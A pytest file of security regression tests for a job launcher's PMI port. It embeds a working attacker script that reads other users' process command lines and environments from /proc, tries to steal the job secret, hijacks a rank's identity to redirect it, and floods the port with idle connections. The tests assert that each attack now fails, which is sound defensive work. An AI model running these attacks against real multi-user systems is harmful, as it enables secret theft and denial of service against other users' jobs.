"""Attacks on a job started with ``postbox run --hosts``, by another local user.

The victim runs a job of 2 ranks on ``--hosts 127.0.0.1,127.0.0.1`` through a
stand-in rsh that runs the remote command on this machine (as
tests/python/test_hosts.py does); each rank sleeps 2 s before it starts
``postbox-job-view``, which gives the attacker time to go first.  The attacker
learns what every local user can: the process list (``ps``), so the remote
commands with ``PMI_PORT`` and ``PMI_ID``; it tries /proc/<pid>/environ too.

- theft: connect to the PMI port as a rank named on a command line and ask
  for ``pb-job-secret``;
- join: take rank 1's place over PMI-2 and redirect it (put ``pb-tcp-1``);
- flood: hold hundreds of idle connections to the PMI port.

Each attack used to work (the secret was served to the first connection that
named a rank; 20 idle connections kept every rank out); now each fails and the
victim's job ends well.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

FAKE_RSH = """#!/bin/sh
# a stand-in rsh: ignore the host, run the remote command here
shift
exec sh -c "$*"
"""

ATTACK = r'''
import json, os, re, secrets, socket, sys, time

mode = sys.argv[1]
me = os.getuid()


def victim_commands():
    """(pid, command line) of every process of another user."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            if os.stat("/proc/" + pid).st_uid == me:
                continue
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                found.append((pid, f.read().replace(b"\0", b" ").decode("utf-8", "replace")))
        except OSError:
            pass
    return found


report = {"environ_read": [], "secret_on_command_line": False}
port, ids = None, set()
deadline = time.monotonic() + 20
while time.monotonic() < deadline:
    for pid, command in victim_commands():
        found = re.search(r"PMI_PORT=([0-9.]+):(\d+)", command)
        if "POSTBOX_JOB_SECRET=" in command or "pb-job-secret" in command:
            report["secret_on_command_line"] = True
        if found:
            port = (found.group(1), int(found.group(2)))
            ids.update(re.findall(r"PMI_ID=(\d+)", command))
            try:
                with open("/proc/%s/environ" % pid, "rb") as f:
                    report["environ_read"].append(pid if f.read() else None)
            except OSError:
                pass
    if port and len(ids) >= 2:
        break
    time.sleep(0.02)
report["port_found"] = port is not None
report["ids"] = sorted(ids)


class Conn:
    def __init__(self):
        self.sock = socket.create_connection(port, timeout=5)
        self.buf = b""

    def line(self, text):
        if text is not None:
            self.sock.sendall((text + "\n").encode())
        while b"\n" not in self.buf:
            data = self.sock.recv(4096)
            if not data:
                return {}
            self.buf += data
        reply, self.buf = self.buf.split(b"\n", 1)
        return dict(f.split("=", 1) for f in reply.decode().split(" ") if "=" in f)

    def v2(self, body):
        data = body.encode()
        self.sock.sendall(b"%6d" % len(data) + data)
        while len(self.buf) < 6 or len(self.buf) < 6 + int(self.buf[:6]):
            data = self.sock.recv(4096)
            if not data:
                return {}
            self.buf += data
        n = int(self.buf[:6])
        reply, self.buf = self.buf[6:6 + n], self.buf[6 + n:]
        return dict(f.split("=", 1) for f in reply.decode().split(";") if "=" in f)


def guess_proof(conn, reply, v2):
    """Answer a token challenge without the token: a random MAC."""
    text = "cmd=auth-response cnonce=%s mac=%s" % (secrets.token_hex(16), secrets.token_hex(8))
    if v2:
        return conn.v2(text.replace(" ", ";") + ";")
    return conn.line(text)


if mode == "theft" and port:
    report["served"], report["secret"] = [], None
    for pmiid in sorted(ids):
        try:
            c = Conn()
            reply = c.line("cmd=initack pmiid=%s" % pmiid)
            if reply.get("cmd") == "auth-challenge":
                reply = guess_proof(c, reply, False)
            if reply.get("cmd") != "initack" or reply.get("rc", "0") != "0":
                continue
            report["served"].append(pmiid)
            while "debug" not in c.line(None):
                pass
            c.line("cmd=init pmi_version=1 pmi_subversion=1")
            kvs = c.line("cmd=get_my_kvsname").get("kvsname")
            got = c.line("cmd=get kvsname=%s key=pb-job-secret" % kvs)
            if got.get("rc") == "0":
                report["secret"] = got.get("value")
                break
        except OSError:
            pass

if mode == "join" and port:
    report["served"], report["put"] = [], None
    for pmiid in sorted(ids, reverse=True):
        try:
            c = Conn()
            c.line("cmd=init pmi_version=2 pmi_subversion=0")
            reply = c.v2("cmd=fullinit;pmirank=%s;pmiid=%s;threaded=FALSE;" % (pmiid, pmiid))
            if reply.get("cmd") == "auth-challenge":
                reply = guess_proof(c, reply, True)
            if reply.get("cmd") != "fullinit-response" or reply.get("rc") != "0":
                continue
            report["served"].append(pmiid)
            report["put"] = c.v2("cmd=kvs-put;key=pb-tcp-%s;value=10.66.66.66:1;" % pmiid) \
                .get("rc")
            time.sleep(3)   # hold the rank's place
            break
        except OSError:
            pass

if mode == "flood" and port:
    held, opened = [], 0
    end = time.monotonic() + 10
    while time.monotonic() < end:
        alive = []
        for s in held:
            try:
                if s.recv(1, socket.MSG_DONTWAIT) == b"":
                    s.close()
                    continue
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                continue
            alive.append(s)
        held = alive
        while len(held) < 300:
            try:
                held.append(socket.create_connection(port, timeout=5))
                opened += 1
            except OSError:
                break
        time.sleep(0.1)
    report["opened"] = opened

print(json.dumps(report), flush=True)
'''


@pytest.fixture
def setup(victim, attacker, users_dir):
    """(victim's rsh stand-in, attacker's program)"""
    rsh = victim.home / "fake-rsh"
    rsh.write_text(FAKE_RSH)
    rsh.chmod(0o755)
    os.chown(rsh, victim.uid, victim.gid)
    attack = users_dir / "attack.py"
    attack.write_text(ATTACK)
    attack.chmod(0o644)
    return rsh, attack


def start_victim(victim, stage, rsh: Path) -> subprocess.Popen:
    view = stage.program("postbox-job-view")
    return victim.launch(["-n", "2", "--hosts", "127.0.0.1,127.0.0.1", "--rsh", str(rsh),
                          "--pmi-address", "127.0.0.1", "--timeout", "40",
                          "sh", "-c", "sleep 2; exec %s" % view],
                         stdin=subprocess.DEVNULL)


def run_attack(victim, attacker, stage, setup, mode: str):
    rsh, attack = setup
    job = start_victim(victim, stage, rsh)
    got = attacker.run(["python3", str(attack), mode], timeout=60)
    out, err = job.communicate(timeout=60)
    assert got.returncode == 0, got.stderr
    report = json.loads(got.stdout)
    # the attacker saw the job (it is not the attack that failed to start)
    assert report["port_found"] and report["ids"] == ["0", "1"], report
    # another user never reads a rank's environment, nor a secret on a command line
    assert report["environ_read"] == [] and not report["secret_on_command_line"], report
    return report, job.returncode, out, err


def assert_victim_carried_on(code: int, out: str, err: str) -> None:
    assert code == 0, out + err
    assert len([line for line in out.splitlines() if "size 2" in line]) == 2, out + err


def test_secret_theft_through_the_pmi_port_named_on_the_command_line(victim, attacker,
                                                                     stage, setup):
    report, code, out, err = run_attack(victim, attacker, stage, setup, "theft")
    assert report["served"] == [] and report["secret"] is None, report
    assert_victim_carried_on(code, out, err)
    assert "refused a PMI connection from 127.0.0.1: a wrong token proof" in err


def test_a_guessed_pmi_id_without_the_token_cannot_take_a_ranks_place(victim, attacker,
                                                                       stage, setup):
    report, code, out, err = run_attack(victim, attacker, stage, setup, "join")
    assert report["served"] == [] and report["put"] is None, report
    assert_victim_carried_on(code, out, err)


def test_idle_connections_to_the_pmi_port_do_not_stop_the_job(victim, attacker, stage,
                                                              setup):
    report, code, out, err = run_attack(victim, attacker, stage, setup, "flood")
    # more than the 16 one address may hold unproven (main held 20 in all and
    # then closed every new connection, the ranks' too); the count stops when
    # the job ends and the port closes
    assert report["opened"] > 20, report
    assert_victim_carried_on(code, out, err)
    assert "closed an unproven PMI connection from 127.0.0.1 to make room" in err
